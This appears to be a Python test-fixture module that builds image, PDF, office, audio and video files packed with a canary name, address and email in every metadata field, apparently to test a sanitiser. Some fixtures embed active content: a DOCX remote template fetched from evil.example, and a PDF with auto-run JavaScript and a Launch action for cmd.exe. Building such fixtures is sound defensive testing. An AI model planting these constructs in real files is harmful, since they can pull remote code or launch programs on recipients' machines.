"""Files that tell who made them, in every way their format knows. The name is the canary of the security tests."""

import io
import struct
import zlib

from PIL import Image, PngImagePlugin

from tests.security.canaries import ADDRESS, EMAIL, NAME
from tests.storage import corpus

RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def notes() -> Image.Exif:
    exif = Image.Exif()
    exif[0x013B], exif[0x8298], exif[0x9C9D] = NAME, NAME, NAME.encode("utf-16-le")
    exif.get_ifd(0x8825).update({1: "N", 2: (9.0, 36.0, 12.0), 29: "2026:11:23"})
    return exif


def picture(kind: str) -> bytes:
    out, image = io.BytesIO(), Image.radial_gradient("L").convert("RGB")
    options = {"exif": notes(), "xmp": f"<x>{NAME}</x>".encode()}
    if kind == "PNG":
        words = PngImagePlugin.PngInfo()
        words.add_text("Author", NAME)
        words.add_itxt("Title", ADDRESS)
        options = {"pnginfo": words, "exif": notes()}
    if kind == "JPEG":
        options["comment"] = NAME.encode()
    image.save(out, kind, **options)
    return out.getvalue()


def pdf() -> bytes:
    photo = picture("JPEG")
    return corpus.pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Metadata 5 0 R /AA << /WC 4 0 R >> "
        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> /EmbeddedFiles << /Names [(a) 8 0 R] >> >> >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        corpus.stream(f"<x:xmpmeta>{NAME}</x:xmpmeta>".encode(), b"/Type /Metadata /Subtype /XML"),
        corpus.stream(
            photo,
            b"/Type /XObject /Subtype /Image /Width 256 /Height 256 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
            b"/Filter /DCTDecode",
        ),
        b"<< /Author <FEFF%b> /Creator (%b) >>" % (NAME.encode("utf-16-be").hex().encode(), NAME.encode()),
        b"<< /Type /Filespec /F (a.txt) /EF << /F 9 0 R >> >>",
        corpus.stream(NAME.encode(), b"/Type /EmbeddedFile"),
        trailer=b"/Info 7 0 R",
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Resources << /XObject << /I 6 0 R >> >> /Annots ["
        b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /T (%b) /Contents (a) >> "
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >> "
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>] >>" % NAME.encode(),
    )


def docx() -> bytes:
    person = f'<p author="{NAME}" initials="QTHN"><t>Nội dung</t></p>'
    return corpus.docx(
        **{
            "docProps/core.xml": f"<c><creator>{NAME}</creator></c>".encode(),
            "docProps/app.xml": f"<a><Company>{ADDRESS}</Company></a>".encode(),
            "docProps/custom.xml": f"<c><property name='a'>{EMAIL}</property></c>".encode(),
            "docProps/thumbnail.jpeg": picture("JPEG"),
            "word/comments.xml": f'<w:comments xmlns:w="urn:w"><w:comment w:author="{NAME}"/></w:comments>'.encode(),
            "word/people.xml": f'<x:people xmlns:x="urn:x"><x:person x:author="{NAME}"/></x:people>'.encode("utf-16"),
            "word/header1.xml": person.encode(),
            "word/_rels/settings.xml.rels": RELS,
            "word/media/image1.jpg": picture("JPEG"),
            "word/media/image2.png": picture("PNG"),
            "word/embeddings/bang.xlsx": xlsx(),
        }
    )


def xlsx() -> bytes:
    return corpus.xlsx(
        **{
            "docProps/core.xml": f"<c><lastModifiedBy>{NAME}</lastModifiedBy></c>".encode(),
            "xl/comments1.xml": f"<comments><authors><author>{NAME}</author></authors></comments>".encode(),
            "xl/persons/person.xml": f'<l><person displayName="{NAME}" userId="{EMAIL}"/></l>'.encode(),
            "xl/sharing.xml": f'<w><fileSharing userName="{NAME}"/><absPath url="C:\\{NAME}\\"/></w>'.encode(),
        }
    )


def odt() -> bytes:
    note = f'<o xmlns:dc="urn:dc"><annotation><dc:creator>{NAME}</dc:creator></annotation></o>'
    return corpus.odt(
        **{
            "meta.xml": f"<m><initial-creator>{NAME}</initial-creator></m>".encode(),
            "content.xml": note.encode(),
            "settings.xml": f'<s><config-item name="PrinterName">{ADDRESS}</config-item></s>'.encode(),
            "Thumbnails/thumbnail.png": picture("PNG"),
        }
    )


def mp3() -> bytes:
    words = b"TPE1" + struct.pack(">IH", len(NAME.encode()) + 1, 0) + b"\x03" + NAME.encode()
    tag = b"ID3\x04\0\0" + struct.pack(">I", len(words)) + words
    assert len(words) < 128
    return tag + corpus.mp3(tag=False) + (b"TAG" + NAME.encode()).ljust(128, b"\0")


def mp4(brand: bytes = b"isom") -> bytes:
    notes = corpus.box(b"udta", corpus.box(b"\xa9xyz", f"+10.0+106.0/{NAME}".encode()))
    inner = corpus.box(b"mvhd", b"\0\0\0\0" + b"\xe0" * 16) + notes
    track = corpus.box(b"trak", corpus.box(b"udta", NAME.encode()) + corpus.box(b"tkhd", b"\0" * 24))
    loose = corpus.box(b"uuid", b"\xbe" * 16 + NAME.encode())
    return corpus.box(b"ftyp", brand + b"\0\0\2\0" + brand) + corpus.box(b"moov", inner + track) + loose


def heic() -> bytes:
    """One picture item and one of EXIF, which lies in the data after the boxes."""
    first = corpus.box(b"ftyp", b"heic\0\0\0\0heic")
    note = b"Exif\0\0" + NAME.encode()
    entries = [corpus.box(b"infe", b"\2\0\0\0" + struct.pack(">HH", n, 0) + kind + b"\0") for n, kind in KINDS]
    iinf = corpus.box(b"iinf", b"\0\0\0\0" + struct.pack(">H", len(entries)) + b"".join(entries))
    picture_data = zlib.compress(b"points" * 20)

    def located(data: int) -> bytes:
        where = ((1, data, len(picture_data)), (2, data + len(picture_data), len(note)))
        items = b"".join(struct.pack(">HHHII", n, 0, 1, start, size) for n, start, size in where)
        return corpus.box(b"iloc", b"\0\0\0\0\x44\0" + struct.pack(">H", len(where)) + items)

    length = len(first) + len(corpus.box(b"meta", b"\0\0\0\0" + iinf + located(0))) + 8
    meta = corpus.box(b"meta", b"\0\0\0\0" + iinf + located(length))
    return first + meta + corpus.box(b"mdat", picture_data + note)


KINDS = ((1, b"hvc1"), (2, b"Exif"))

FILES = {
    "a.jpg": lambda: picture("JPEG"),
    "a.png": lambda: picture("PNG"),
    "a.webp": lambda: picture("WEBP"),
    "a.heic": heic,
    "a.pdf": pdf,
    "a.docx": docx,
    "a.xlsx": xlsx,
    "a.odt": odt,
    "a.mp3": mp3,
    "a.mp4": mp4,
    "a.m4a": lambda: mp4(b"M4A "),
}
